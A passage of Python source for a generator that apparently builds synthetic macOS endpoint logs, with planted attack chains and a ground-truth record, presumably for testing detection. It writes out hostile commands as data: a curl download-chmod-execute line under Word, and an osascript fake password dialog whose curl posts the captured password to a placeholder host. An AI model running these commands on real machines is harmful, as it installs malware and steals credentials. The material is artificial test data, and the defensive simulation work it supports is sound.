    child = b.forked("s3_fork", 41.0, app, "s3")
    b.tag = "post3"
    sh = b.execs("s3_exec", 41.002, child, SH, ["/bin/sh", "-c", command], responsible=app)
    cfork = b.forked("curl_fork", 41.01, sh, "curl")
    curl = b.execs("curl_exec", 41.012, cfork, CURL, ["curl", "-fsSL", "https://@@dom@@/p", "-o", "/tmp/.@@tok@@"],
                   responsible=app)
    b.net("curl_net", 41.3, "curl", curl, "s3", ["curl", "-fsSL", "https://@@dom@@/p"], domain=True)
    b.exit("curl_exit", 42.6, curl)
    pfork = b.forked("py_fork", 42.61, sh, "py")
    py = b.execs("py_exec", 42.612, pfork, PYTHON3, ["python3", "/tmp/.@@tok@@"], responsible=app)
    b.net("py_net", 43.5, "py", py, "s3", ["python3", "/tmp/.@@tok@@"], domain=False)
    b.exit("py_exit", 50.0, py)
    b.exit("s3_exit", 50.01, sh)
    b.meta.update(route="interpreter", app=app_key, stage3="s3", stage3_path=SH.path, egress="curl",
                  launched=True, tree=["s3", "curl", "py"])
    return b.compile()


def chain_office_crash() -> SceneTemplate:
    """Word has run for hours; an exploited document makes it run sh -> curl, then it crashes."""
    b = Builder("chain/office_crash")
    images = host_images(b)
    word = images["h_word"]
    container = f"{HOME}/Library/Containers/com.microsoft.Word/Data/tmp/@@fname@@"
    _app_writes(b, "drop", 0.0, word, container, 31_700_001)
    command = "curl -fsSL https://@@dom@@/s -o /tmp/.@@tok@@ && chmod +x /tmp/.@@tok@@ && /tmp/.@@tok@@"
    child = b.forked("s3_fork", 4.0, word, "s3")
    b.tag = "post3"
    sh = b.execs("s3_exec", 4.002, child, SH, ["/bin/sh", "-c", command], responsible=word)
    cfork = b.forked("curl_fork", 4.01, sh, "curl")
    curl = b.execs("curl_exec", 4.012, cfork, CURL, ["curl", "-fsSL", "https://@@dom@@/s", "-o", "/tmp/.@@tok@@"],
                   responsible=word)
    b.net("curl_net", 4.3, "curl", curl, "s3", ["curl", "-fsSL", "https://@@dom@@/s"], domain=True)
    b.exit("curl_exit", 5.5, curl)
    b.exit("s3_exit", 5.6, sh)
    b.tag = ""
    b.ul("crash", 7.0, "crash", "Formulating fatal 309 report for corpse[@@pid:h_word@@] Microsoft Word",
         UL_PIDS["reportcrash"])
    b.exit("word_exit", 7.2, word, status=11)  # SIGSEGV
    b.meta.update(route="interpreter", app="word", stage3="s3", stage3_path=SH.path, egress="curl", launched=False,
                  tree=["s3", "curl"])
    return b.compile()


def chain_browser_interpreter() -> SceneTemplate:
    b = Builder("chain/browser")
    images = host_images(b)
    app = _launch(b, images, "app", CHROME, "com.google.Chrome", 0.0)
    helper = b.image("helper", CHROME_HELPER, ALICE, parent=app, responsible=app, start=0.4)
    download = f"{HOME}/Downloads/@@fname@@"
    _app_writes(b, "drop", 22.0, app, download, 31_800_001)
    b.net("helper_net", 21.0, "helper", helper, "app", [CHROME_HELPER.path], domain=True)
    script = ('osascript -e \'set p to text returned of (display dialog "Software Update needs your password" '
              'default answer "" with hidden answer)\' -e \'do shell script "curl -s -d p=" & p & " '
              'https://@@dip@@/c"\'')
    child = b.forked("s3_fork", 30.0, app, "s3")
    b.tag = "post3"
    zsh = b.execs("s3_exec", 30.002, child, ZSH, ["/bin/zsh", "-c", script], responsible=app)
    ofork = b.forked("osa_fork", 30.01, zsh, "osa")
    osa = b.execs("osa_exec", 30.012, ofork, OSASCRIPT, ["osascript", "-e", "set p to text returned of (display "
                                                         "dialog ... with hidden answer)"], responsible=app)
    b.net("osa_net", 39.0, "osa", osa, "s3", ["osascript"], domain=False)
    b.exit("osa_exit", 40.0, osa)
    b.exit("s3_exit", 40.01, zsh)
    b.meta.update(route="interpreter", app="chrome", stage3="s3", stage3_path=ZSH.path, egress="osa",
                  launched=True, tree=["s3", "osa"])
    return b.compile()


def chain_quarantined_app() -> SceneTemplate:
    """The mac-01 story with slots: Safari download, Archive Utility, translocation, Gatekeeper, launch, curl."""
    b = Builder("chain/quarantined")
    images = host_images(b)
    safari = _launch(b, images, "app", SAFARI, "com.apple.Safari", 0.0)
    networking = _launch(b, images, "net", NETWORKING, "com.apple.WebKit.Networking", 0.3, responsible=safari,
                         unified=False)
    downloads = f"{HOME}/Downloads"
    bundle = f"{downloads}/@@appname@@.zip.download"
    zip_path = f"{downloads}/@@appname@@.zip"
    archive = fresh(31_442_873, 0, "2026-03-02T09:15:41.309877126Z")
    b.es("dl_c", 40.0, networking, "create", {"destination_type": 0, "destination": {
        "existing_file": file_obj(f"{bundle}/@@appname@@.zip", archive)}, "acl": None})
    archive = replace(archive, size=498_112)
    b.es("dl_w", 42.5, networking, "close", {"modified": True, "was_mapped_writable": False,
                                             "target": file_obj(f"{bundle}/@@appname@@.zip", archive)})
    b.es("dl_r", 42.51, networking, "rename", {
        "source": file_obj(f"{bundle}/@@appname@@.zip", archive), "destination_type": 1,
        "destination": {"new_path": {"dir": file_obj(downloads, directory(388_004, 17, ms.SYSTEM_BUILD)),
                                     "filename": "@@appname@@.zip"}}})
    b.es("dl_q", 42.52, networking, "setextattr", {"target": file_obj(zip_path, archive),
                                                   "extattr": "com.apple.quarantine"})
    b.net("dl_net", 40.1, "net", networking, "h_launchd", [NETWORKING.path], domain=True)
    archiver = _launch(b, images, "arch", ARCHIVER, "com.apple.archiveutility", 68.0)
    b.es("ex_o", 68.3, archiver, "open", {"fflag": 1, "file": file_obj(zip_path, archive)})
    app_dir = f"{downloads}/@@appname@@.app"
    items = [(app_dir, True), (f"{app_dir}/Contents", True), (f"{app_dir}/Contents/Info.plist", False),
             (f"{app_dir}/Contents/MacOS", True), (f"{app_dir}/Contents/MacOS/@@appname@@", False)]
    for i, (path, is_dir) in enumerate(items):
        node = directory(31_442_911 + i, 1, ms.EXTRACTED_AT) if is_dir else fresh(31_442_911 + i, 1_214,
                                                                                   ms.EXTRACTED_AT)
        at = 68.4 + i * 0.002
        b.es(f"ex_c{i}", at, archiver, "create", {"destination_type": 0,
                                                  "destination": {"existing_file": file_obj(path, node)}, "acl": None})
        b.es(f"ex_q{i}", at + 0.0004, archiver, "setextattr", {"target": file_obj(path, node),
                                                               "extattr": "com.apple.quarantine"})
    b.exit("ex_exit", 71.7, archiver)
    translocated = f"/private{TMP}/AppTranslocation/@@uuid@@/d/@@appname@@.app"
    b.ul("click", 107.3, "finder_click", "sendAction:", UL_PIDS["finder"])
    b.ul("tl", 107.35, "translocate", f"SecTranslocateCreateSecureDirectoryForURL: created {translocated}",
         UL_PIDS["lsd"])
    b.ul("gk1", 107.4, "gk_scan", "GK performScan", UL_PIDS["syspolicyd"])
    b.ul("gk2", 108.1, "gk_xprotect", "GK Xprotect results: PST: (path: 3b7c5e9a1d2f4c68), (team: (null)), "
         "(id: com.example.@@appname@@), (bundle_id: com.example.@@appname@@), XPScan: 0,-767,2026-03-02 09:16:49 "
         f"+0000,(null),file://{downloads}/@@appname@@.app/", UL_PIDS["syspolicyd"])
    b.ul("gk3", 108.11, "gk_prompt", "Prompt shown (6, 0), waiting for response", UL_PIDS["syspolicyd"])
    b.ul("gk4", 108.18, "uiagent_prompt", "present code-evaluation prompt", UL_PIDS["uiagent"])
    b.ul("gk5", 116.6, "gk_cleared", "Cleared Gatekeeper rejection record sucessfully", UL_PIDS["syspolicyd"])
    payload = Binary(f"{translocated}/Contents/MacOS/@@appname@@", "com.example.@@appname@@",
                     replace(ms.UPDATER_INODE, dev=ms.DEV_TRANSLOCATION), team_id=None, platform=False,
                     flags=FLAGS_ADHOC, subtype=SUBTYPE_ARM64)
    b.es("gk_override", 116.59, images["h_syspolicyd"], "gatekeeper_user_override", {
        "file_type": 1, "file": file_obj(app_dir, directory(31_442_911, 1, ms.EXTRACTED_AT)), "sha256": None,
        "signing_info": {"cdhash": payload.cdhash, "signing_id": payload.signing_id, "team_id": None}})
    b.tag = "post3"
    stage3 = _launch(b, images, "s3", payload, "com.example.@@appname@@", 116.7)
    sfork = b.forked("sh_fork", 117.9, stage3, "sh", cred=ALICE)
    sh = b.execs("sh_exec", 117.902, sfork, BASH, ["/bin/sh", "-c", "curl -fsSL https://@@dom@@/p -o /tmp/.p"],
                 responsible=stage3)
    cfork = b.forked("curl_fork", 117.91, sh, "curl")
    curl = b.execs("curl_exec", 117.912, cfork, CURL, ["curl", "-fsSL", "https://@@dom@@/p", "-o", "/tmp/.p"],
                   responsible=stage3)
    b.net("curl_net", 118.1, "curl", curl, "sh", ["curl", "-fsSL", "https://@@dom@@/p"], domain=True)
    b.exit("curl_exit", 119.4, curl)
    b.exit("sh_exit", 119.41, sh)
    b.exit("s3_exit", 125.0, stage3)
    b.meta.update(route="quarantined_app", app="safari", stage3="s3", stage3_path=payload.path, egress="curl",
                  launched=True, tree=["s3", "sh", "curl"])
    return b.compile()


def pid_reuse_tail() -> SceneTemplate:
    """A developer's curl that reuses the chain curl's pid after it exited, and connects to GitHub."""
    b = Builder("pid_reuse")
    images = host_images(b)
    zsh, env = _terminal_shell(b, images, 0.0)
    tchild = b.forked("tool_fork", 0.5, zsh, "tool")
    binary, args = DEV_TOOLS["curl"]
    run = b.execs("tool_exec", 0.502, tchild, binary, args, env=env, cwd=f"{HOME}/src",
                  responsible=images["h_terminal"])
    b.net("tool_net", 0.8, "tool", run, "zsh", args, domain=True)
    b.exit("tool_exit", 2.0, run)
    b.exit("zsh_exit", 300.0, zsh)
    return b.compile()


# -- rendering -----------------------------------------------------------------------------------------------------

AGENT_1601_OFFSET = ms.EPOCH_1601_OFFSET_S
_iso_cache: dict[int, str] = {}
_ul_cache: dict[int, str] = {}


def _second(seconds: int) -> str:
    text = _iso_cache.get(seconds)
    if text is None:
        text = datetime.fromtimestamp(seconds, tz=UTC).strftime("%Y-%m-%dT%H:%M:%S")
        _iso_cache[seconds] = text
    return text


def _ul_second(seconds: int) -> str:
    text = _ul_cache.get(seconds)
    if text is None:
        text = datetime.fromtimestamp(seconds + 3600, tz=UTC).strftime("%Y-%m-%d %H:%M:%S")
        _ul_cache[seconds] = text
    return text


def uuid_text(rng: random.Random, version: int = 4) -> str:
    """A seeded UUID in upper case (the generator never uses the wall clock or the system's randomness)."""
    return (f"{rng.getrandbits(32):08X}-{rng.getrandbits(16):04X}-{version}{rng.getrandbits(12):03X}-"
            f"{rng.getrandbits(16):04X}-{rng.getrandbits(48):012X}")


class Context:
    """Slot values of one scene instance on one host."""

    __slots__ = ("counters", "host", "pids", "strs", "times", "vers")

    def __init__(self, host: HostSim, pids: dict[str, int], vers: dict[str, int], times: dict[str, int],
                 strs: dict[str, str]) -> None:
        self.host = host
        self.pids = pids
        self.vers = vers
        self.times = times
        self.strs = strs

    def value(self, key: str) -> str:
        kind, _, name = key.partition(":")
        if kind == "pid":
            if name.endswith("+1"):
                return str(self.pid(name[:-2]) + 1)
            return str(self.pid(name))
        if kind == "ver":
            if name.endswith("+1"):
                return str(self.ver(name[:-2]) + 1)
            return str(self.ver(name))
        if kind == "tns":
            t = self.time(name)
            return f"{_second(t // NS)}.{t % NS:09d}Z"
        if kind == "tus":
            t = self.time(name)
            return f"{_second(t // NS)}.{t % NS // 1000:06d}Z"
        if kind == "mach":
            return str(ms.mach_ticks(self.time(name)))
        if kind == "ul":
            t = self.time(name)
            return f"{_ul_second(t // NS)}.{t % NS // 1000:06d}+0100"
        if kind == "eid":
            pid = self.pid(name)
            start = self.time(f"s:{name}")
            seconds, nanos = divmod(start, NS)
            raw = f"{self.host.agent}-{pid}-{seconds + AGENT_1601_OFFSET}.{nanos}"
            return base64.b64encode(raw.encode()).decode()
        value = self.strs.get(key)
        if value is None:
            value = self.host.strs[key]
        return value

    def pid(self, name: str) -> int:
        value = self.pids.get(name)
        return value if value is not None else self.host.pids[name]

    def ver(self, name: str) -> int:
        value = self.vers.get(name)
        return value if value is not None else self.host.vers[name]

    def time(self, name: str) -> int:
        value = self.times.get(name)
        return value if value is not None else self.host.times[name]


#: Slots whose value changes on every record (not cached per scene).
_PER_RECORD = {"seq", "gseq", "nseq", "evid", "sport"}


@dataclass
class Out:
    """Rendered records of one host: (arrival ns, source, line)."""

    lines: list[tuple[int, str, bytes]] = field(default_factory=list)


class HostSim:
    """One Mac: its long-running processes, counters, and the records it has produced."""

    def __init__(self, index: int, rng: random.Random, start_ns: int, names: Names) -> None:
        self.index = index
        self.name = f"mac-{index:05d}"
        self.rng = rng
        self.next_pid = rng.randrange(2_000, 9_000)
        self.next_ver = rng.randrange(40_000, 90_000)
        self.seq_num = rng.randrange(1_000, 5_000)
        self.gseq = rng.randrange(10_000, 50_000)
        self.nseq = rng.randrange(100_000, 900_000)
        self.agent = uuid_text(rng).lower()
        user = names.users[index % len(names.users)]
        self.strs = {
            "host": self.name, "user": user, "agent": self.agent,
            "hostid": uuid_text(rng, version=5),
            "hostip": f"10.{index // 65536 % 256}.{index // 256 % 256}.{index % 256 or 1}",
            "hostmac": "-".join(f"{rng.getrandbits(8):02x}" for _ in range(6)),
            "tmpa": f"{rng.choice('abcdefghjkmnpqrstvwxyz')}{rng.randrange(10)}",
            "tmpb": "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(28)),
            "sbproc": "bluetoothd", "sbpid": "171", "sbsvc": "com.apple.server.bluetooth",
        }
        self.pids = {"h_launchd": 1}
        self.vers = {"h_launchd": rng.randrange(1_000, 2_000)}
        boot = start_ns - rng.randrange(3, 20) * 86_400 * NS
        self.times = {"s:h_launchd": boot}
        for name in HOST_IMAGES[1:]:
            self.pids[name] = self.alloc_pid()
            self.vers[name] = self.alloc_ver()
            self.times[f"s:{name}"] = boot + rng.randrange(60, 6 * 3600) * NS
        self.out = Out()

    def alloc_pid(self) -> int:
        pid = self.next_pid
        self.next_pid = pid + 1 if pid < 99_998 else 300
        return pid

    def alloc_ver(self) -> int:
        self.next_ver += 3
        return self.next_ver

    def render(self, scene: SceneTemplate, start_ns: int, strs: dict[str, str], *, end_ns: int,
               delays: Callable[[RecordTemplate], int], pids: dict[str, int] | None = None) -> Context:
        """Render one instance of ``scene`` starting at ``start_ns``; records after ``end_ns`` are dropped.

        Scene-local processes get fresh pids and pidversions (``pids`` forces some, for pid reuse); each record's
        arrival is its event time plus ``delays(record)``. Returns the instance's slot values (for the truth).
        """
        rng = self.rng
        own_pids = {}
        own_vers = {}
        for name in scene.images:
            own_pids[name] = pids[name] if pids and name in pids else self.alloc_pid()
            own_vers[name] = self.alloc_ver()
        times = {name: start_ns + int(offset * NS) + rng.randrange(1_000) for name, offset in scene.offsets.items()}
        ctx = Context(self, own_pids, own_vers, times, strs)
        cache: dict[str, bytes] = {}
        lines = self.out.lines
        for record in scene.records:
            t = times[record.tname]
            if t > end_ns or t < START_NS:
                continue
            escape = record.source != "net"
            out = [record.parts[0]]
            for key, part in zip(record.keys, record.parts[1:], strict=True):
                value = cache.get(key)
                if value is None:
                    if key in _PER_RECORD:
                        value = self._per_record(key, record).encode()
                    else:
                        value = ctx.value(key).encode()
                        if escape:
                            value = value.replace(b"/", b"\\/")
                        cache[key] = value
                out.append(value)
                out.append(part)
            lines.append((t + delays(record), record.source, b"".join(out)))
        return ctx

    def _per_record(self, key: str, record: RecordTemplate) -> str:
        if key == "seq":
            self.seq_num += 1  # eslogger numbers per event type; one counter keeps the shape
            return str(self.seq_num)
        if key == "gseq":
            self.gseq += 1
            return str(self.gseq)
        if key == "nseq":
            self.nseq += 1
            return str(self.nseq)
        if key == "sport":
            return str(49_152 + self.rng.randrange(16_000))
        # Elastic event ids: 24 base64 characters.
        return base64.b64encode(self.rng.getrandbits(144).to_bytes(18, "big")).decode()


# -- the fleet -----------------------------------------------------------------------------------------------------


@dataclass
class Names:
    users: list[str] = field(default_factory=lambda: ["alice", "bob", "carol", "dmitri", "erin", "farah", "gus",
                                                      "hana", "ivan", "jules", "kemal", "lena", "maya", "noor"])
    files: list[str] = field(default_factory=lambda: [
        "Q3-report.pdf", "invoice_2291.pdf", "photos.zip", "Zoom.pkg", "slides-final.pptx", "contract.docx",
        "googlechrome.dmg", "budget.xlsx", "VSCode-darwin-universal.zip", "scan0042.pdf", "notes.txt",
        "python-3.12.4-macos11.pkg", "Firefox 128.0.dmg", "team-offsite.key", "headshot.jpg"])
    payload_apps: list[str] = field(default_factory=lambda: ["UpdateHelper", "FlashPlayer", "PDFViewerPro",
                                                             "CleanMyDisk", "VideoCodec", "DocuSignViewer"])
    profile_paths: dict[str, list[str]] = field(default_factory=lambda: {
        "h_chrome": ["Library/Application Support/Google/Chrome/Default/History",
                     "Library/Application Support/Google/Chrome/Default/Cookies",
                     "Library/Application Support/Google/Chrome/Default/Preferences",
                     "Library/Caches/Google/Chrome/Default/Cache/Cache_Data/index"],
        "h_safari": ["Library/Safari/History.db", "Library/Safari/LastSession.plist",
                     "Library/Containers/com.apple.Safari/Data/Library/Caches/com.apple.Safari/Cache.db"],
        "h_word": ["Library/Containers/com.microsoft.Word/Data/Library/Preferences/com.microsoft.Word.plist",
                   "Library/Group Containers/UBF8T346G9.Office/MicrosoftRegistrationDB.reg"],
    })
    noise_paths: list[str] = field(default_factory=lambda: [
        "/usr/lib/libSystem.B.dylib", "/System/Library/Frameworks/Foundation.framework/Foundation",
        "/private/var/db/mds/messages/501/BarrierFile", "/Library/Preferences/com.apple.networkd.plist",
        "/System/Library/CoreServices/SystemVersion.plist", "/private/etc/hosts",
        "/System/Library/PrivateFrameworks/CoreAnalytics.framework/CoreAnalytics",
        "/usr/share/icu/icudt74l.dat"])
    apple_domains: list[tuple[str, str]] = field(default_factory=lambda: [
        ("gateway.icloud.com", "17.248.163.69"), ("api.apple-cloudkit.com", "17.248.190.2"),
        ("ocsp2.apple.com", "17.253.7.139"), ("courier.push.apple.com", "17.57.146.20"),
        ("mesu.apple.com", "17.253.83.203"), ("swscan.apple.com", "17.253.21.206")])
    web_domains: list[tuple[str, str]] = field(default_factory=lambda: [
        ("www.google.com", "142.250.185.68"), ("fonts.gstatic.com", "142.250.74.99"),
        ("github.com", "140.82.121.3"), ("docs.google.com", "142.250.186.46"),
        ("www.wikipedia.org", "185.15.59.224"), ("cdn.jsdelivr.net", "151.101.1.229"),
        ("slack.com", "3.120.23.141"), ("outlook.office365.com", "52.97.144.98")])
    dev_domains: dict[str, tuple[str, str]] = field(default_factory=lambda: {
        "curl": ("api.github.com", "140.82.121.6"), "git": ("github.com", "140.82.121.3"),
        "python3": ("pypi.org", "151.101.0.223")})
    update_domains: list[tuple[str, str]] = field(default_factory=lambda: [
        ("update.googleapis.com", "142.250.185.163"), ("dl.google.com", "142.250.184.238"),
        ("officecdnmac.microsoft.com", "23.212.250.41"), ("go.microsoft.com", "23.56.4.167")])


@dataclass
class Catalog:
    """Every scene template, compiled once per process."""

    background: list[tuple[str, SceneTemplate, float]]
    chains: dict[str, SceneTemplate]
    pid_reuse: SceneTemplate


def build_catalog() -> Catalog:
    """Compile all scenes. Weights are scene starts per host-hour (records per scene vary)."""
    bg: list[tuple[str, SceneTemplate, float]] = []
    for proc in ("h_mds_stores", "h_cfprefsd", "h_finder", "h_trustd", "h_safari", "h_chrome", "h_word"):
        bg.append(("openclose", scene_openclose(proc), 2_400.0))
    for binary in (MDWORKER_SHARED, GEOD, SPOTLIGHT_KNOWLEDGE, SOFTWAREUPDATED):
        bg.append(("daemon", scene_daemon_run(binary), 220.0))
    for proc in ("h_nsurlsessiond", "h_apsd", "h_trustd"):
        bg.append(("daemon_net", scene_net(proc), 300.0))
    for proc in ("h_networking", "h_chrome_helper"):
        bg.append(("helper_net", scene_net(proc), 700.0))
    for kind in ("sandbox", "bluetooth", "cfnetwork"):
        bg.append(("ul_noise", scene_ul_noise(kind), 450.0))
    for proc in ("h_chrome", "h_safari", "h_word"):
        bg.append(("profile", scene_profile_write(proc), 300.0))
    for key in LAUNCHABLE:
        bg.append(("launch", scene_app_launch(key), 2.0))
    for browser in ("safari", "chrome"):
        bg.append(("download", scene_download(browser), 4.0))
    for tool in DEV_TOOLS:
        bg.append(("terminal", scene_terminal(tool), 4.0))
    for which in ("keystone", "mau"):
        bg.append(("updater", scene_updater_launchd(which), 1.5))
    for app in ("chrome", "word"):
        bg.append(("app_updater", scene_updater_under_app(app), 1.0))
    chains = {
        "office_interpreter/word": chain_office_interpreter("word"),
        "office_interpreter/excel": chain_office_interpreter("excel"),
        "office_interpreter/powerpoint": chain_office_interpreter("powerpoint"),
        "browser_interpreter": chain_browser_interpreter(),
        "quarantined_app": chain_quarantined_app(),
        "office_crash": chain_office_crash(),
    }
    return Catalog(bg, chains, pid_reuse_tail())


def _records_per_hour(catalog: Catalog) -> float:
    return sum(len(s.records) * w for _, s, w in catalog.background)


@dataclass
class Plan:
    hosts: int
    minutes: float
    eps: float
    chains: int
    seed: int
    chunk_minutes: float = 10.0


@dataclass
class PlantedChain:
    host: str
    kind: str
    route: str
    app: str
    variants: list[str]
    start_ns: int
    stage3_pid: int
    stage3_path: str
    stage3_time_ns: int
    egress_dst: str
    egress_domain: str | None
    egress_pid: int
    tree_pids: list[int]
    reuse_dst: str | None = None


def _chain_assignments(plan: Plan, rng: random.Random) -> dict[int, list[tuple[str, list[str], float]]]:
    """Which hosts get which chains (kind, variants, start as a fraction of the run)."""
    kinds = ["office_interpreter/word", "office_interpreter/excel", "office_interpreter/powerpoint",
             "browser_interpreter", "quarantined_app", "office_crash"]
    out: dict[int, list[tuple[str, list[str], float]]] = {}
    hosts = list(range(plan.hosts))
    rng.shuffle(hosts)
    for i in range(plan.chains):
        kind = kinds[i % len(kinds)]
        variants: list[str] = []
        if kind == "office_crash":
            variants.append("late_unified")
        roll = i // len(kinds) % 4
        if roll == 1:
            variants.append("net_first")
        elif roll == 2 and kind != "quarantined_app":
            variants.append("pid_reuse")
        elif roll == 3 and kind != "office_crash":
            variants.append("late_unified")
        host = hosts[i % len(hosts)]
        slot = i // len(hosts)  # several chains on one host: spread them over the run
        per_host = -(-plan.chains // plan.hosts)
        low = 0.05 + 0.6 * slot / per_host
        out.setdefault(host, []).append((kind, variants, low + rng.random() * 0.6 / per_host))
    return out


def simulate_host(index: int, plan: Plan, catalog: Catalog, names: Names,
                  chains: list[tuple[str, list[str], float]]) -> tuple[HostSim, list[PlantedChain]]:
    rng = random.Random(plan.seed * 1_000_003 + index)
    duration_ns = int(plan.minutes * 60 * NS)
    start = START_NS + rng.randrange(0, 5 * NS)
    end = START_NS + duration_ns
    host = HostSim(index, rng, start, names)
    per_hour = _records_per_hour(catalog)
    scale = plan.eps * 3600 / per_hour  # background scene rate multiplier to meet --eps
    weights = [w for _, _, w in catalog.background]
    cumulative = list(accumulate(weights))
    total_rate = cumulative[-1] * scale / 3600  # scene starts per second
    # Shipping delay per source, fixed per host: a source delivers in order (eslogger in seq_num order), so a
    # jitter per record would reorder records that no real pipeline reorders.
    delay = {"es": rng.randrange(5, 40) * 1_000_000, "net": rng.randrange(50, 250) * 1_000_000,
             "ul": rng.randrange(5, 20) * NS}

    def normal(record: RecordTemplate) -> int:
        return delay[record.source]

    # Login: macOS reopens the user's apps within seconds of logging in (a browser and an Office app or two), so
    # every host's stream starts with app launches, as a fleet's does each morning.
    launches = {scene.name.split("/", 1)[1]: scene for kind, scene, _ in catalog.background if kind == "launch"}
    for key in [rng.choice(["safari", "chrome"]), *rng.sample(["word", "excel", "powerpoint", "preview", "slack",
                                                              "zoom", "vscode"], 2)]:
        host.render(launches[key], start + rng.randrange(0, 8 * NS), _background_strs("launch", launches[key], rng,
                                                                                       names), end_ns=end,
                    delays=normal)
    t = start
    while True:
        t += int(rng.expovariate(total_rate) * NS)
        if t >= end:
            break
        kind, scene, _ = catalog.background[bisect(cumulative, rng.random() * cumulative[-1])]
        strs = _background_strs(kind, scene, rng, names)
        host.render(scene, t, strs, end_ns=end, delays=normal)

    planted: list[PlantedChain] = []
    for kind, variants, fraction in chains:
        scene = catalog.chains[kind]
        at = start + int(duration_ns * fraction)
        domain, ip = rng.choice(PAYLOAD_DOMAINS), f"198.51.100.{rng.randrange(2, 250)}"
        strs = {"fname": rng.choice(["Invoice_4471.docm", "Q1_payroll.xlsm", "deck_review.pptm", "Resume.pdf",
                                     "statement.command"]),
                "dom": domain, "dip": ip, "dport": "443", "tok": f"{rng.getrandbits(32):08x}",
                "appname": rng.choice(names.payload_apps),
                "uuid": uuid_text(rng),
                "job1": str(rng.randrange(10**6, 10**7)), "job2": str(rng.randrange(10**6, 10**7)),
                "lsn": f"{rng.randrange(16**5):x}", "path": "", "taskid": ""}

        def hard(record: RecordTemplate, variants: list[str] = variants) -> int:
            base = normal(record)
            if "net_first" in variants and record.tag == "post3" and record.source == "es":
                base += 11 * 60 * NS
            if "late_unified" in variants and record.source == "ul":
                base += 25 * 60 * NS
            return base

        ctx = host.render(scene, at, strs, end_ns=end + 3600 * NS, delays=hard)
        meta = scene.meta
        egress = meta["egress"]
        item = PlantedChain(host.name, kind, meta["route"], meta["app"], list(variants), at,
                            ctx.pid(meta["stage3"]), _resolve_path(meta["stage3_path"], strs, host),
                            ctx.time(f"{meta['stage3']}_exec"), ip, domain if egress == "curl" else None,
                            ctx.pid(egress), [ctx.pid(n) for n in meta["tree"]])
        if "pid_reuse" in variants:
            # The chain's egressing process has exited; a developer's curl now gets its pid and connects to GitHub.
            host.render(catalog.pid_reuse, ctx.time(f"{egress}_exit") + 2 * NS,
                        {"dom": "api.github.com", "dip": "140.82.121.6", "dport": "443"}, end_ns=end + 3600 * NS,
                        delays=normal, pids={"tool": ctx.pid(egress)})
            item.reuse_dst = "140.82.121.6"
        planted.append(item)
    return host, planted


def _resolve_path(path: str, strs: dict[str, str], host: HostSim) -> str:
    def sub(match: re.Match[str]) -> str:
        key = match.group(1)
        return strs.get(key) or host.strs.get(key, key)

    return re.sub(r"@@([A-Za-z0-9_:.+\-]+)@@", sub, path)


def _background_strs(kind: str, scene: SceneTemplate, rng: random.Random, names: Names) -> dict[str, str]:
    if kind == "openclose":
        return {"path": rng.choice(names.noise_paths)}
    if kind == "profile":
        proc = scene.name.split("/", 1)[1]
        # Slot values are not themselves templated; the user's name is filled in when the host's files are written.
        return {"path": f"/Users/@@USER@@/{rng.choice(names.profile_paths[proc])}"}
    if kind in ("daemon_net",):
        domain, ip = rng.choice(names.apple_domains)
        return {"dom": domain, "dip": ip, "dport": "443"}
    if kind == "helper_net":
        domain, ip = rng.choice(names.web_domains)
        return {"dom": domain, "dip": ip, "dport": "443"}
    if kind == "download":
        domain, ip = rng.choice(names.web_domains)
        return {"fname": rng.choice(names.files), "dom": domain, "dip": ip, "dport": "443"}
    if kind == "terminal":
        tool = scene.name.split("/", 1)[1]
        domain, ip = names.dev_domains[tool]
        return {"dom": domain, "dip": ip, "dport": "443"}
    if kind in ("updater", "app_updater"):
        google = "keystone" in scene.name or "chrome" in scene.name
        domain, ip = rng.choice(names.update_domains[:2] if google else names.update_domains[2:])
        return {"dom": domain, "dip": ip, "dport": "443"}
    if kind == "launch":
        return {"job1": str(rng.randrange(10**6, 10**7)), "job2": str(rng.randrange(10**6, 10**7)),
                "lsn": f"{rng.randrange(16**5):x}"}
    if kind == "ul_noise":
        return {"taskid": uuid_text(rng)[:13]}
    return {}


FILE_KINDS = {"es": "eslogger.jsonl", "net": "network.ndjson", "ul": "unifiedlog.ndjson"}


def chunk_name(chunk_start_ns: int) -> str:
    return datetime.fromtimestamp(chunk_start_ns // NS, tz=UTC).strftime("%Y%m%dT%H%M")


def write_host(host: HostSim, folder: Path, plan: Plan) -> int:
    """Write a host's records: files rotated by arrival time, sorted by arrival, with arrival sidecars."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / ".arrival").mkdir(exist_ok=True)
    chunk_ns = int(plan.chunk_minutes * 60 * NS)
    last_chunk = (int(plan.minutes * 60 * NS) - 1) // chunk_ns
    lines = host.out.lines
    lines.sort(key=lambda item: item[0])
    user = host.strs["user"].encode()
    groups: dict[tuple[int, str], list[tuple[int, bytes]]] = {}
    for arrival, source, line in lines:
        chunk = min(max((arrival - START_NS) // chunk_ns, 0), last_chunk)
        groups.setdefault((chunk, source), []).append((arrival, line))
    for (chunk, source), items in groups.items():
        name = f"{chunk_name(START_NS + chunk * chunk_ns)}-{FILE_KINDS[source]}"
        data = b"\n".join(line for _, line in items) + b"\n"
        if b"@@USER@@" in data:
            data = data.replace(b"@@USER@@", user)
        (folder / name).write_bytes(data)
        (folder / ".arrival" / f"{name}.i64").write_bytes(array("q", [a for a, _ in items]).tobytes())
    return len(lines)


def _generate_range(args: tuple[Plan, Path, list[int], dict[int, list[tuple[str, list[str], float]]]]
                    ) -> tuple[int, list[dict[str, Any]]]:
    plan, out, indexes, assignments = args
    catalog = build_catalog()
    names = Names()
    total = 0
    truth: list[dict[str, Any]] = []
    for index in indexes:
        host, planted = simulate_host(index, plan, catalog, names, assignments.get(index, []))
        total += write_host(host, out / "hosts" / host.name, plan)
        truth.extend(p.__dict__ for p in planted)
    return total, truth


def generate(out: Path, plan: Plan, workers: int = 1) -> dict[str, Any]:
    """Generate the fleet into ``out`` (replacing it) and return the manifest."""
    began = time.perf_counter()
    if out.exists():
        shutil.rmtree(out)
    (out / "hosts").mkdir(parents=True)
    assignments = _chain_assignments(plan, random.Random(plan.seed))
    indexes = list(range(plan.hosts))
    jobs = [(plan, out, indexes[w::workers], assignments) for w in range(workers)]
    if workers > 1:
        from multiprocessing import get_context

        with get_context("fork").Pool(workers) as pool:
            results = pool.map(_generate_range, jobs)
    else:
        results = [_generate_range(jobs[0])]
    total = sum(r[0] for r in results)
    truth = sorted((t for r in results for t in r[1]), key=lambda t: (t["host"], t["start_ns"]))
    elapsed = time.perf_counter() - began
    size = sum(f.stat().st_size for f in (out / "hosts").rglob("*") if f.is_file() and ".arrival" not in f.parts)
    manifest = {"hosts": plan.hosts, "minutes": plan.minutes, "eps": plan.eps, "chains": len(truth),
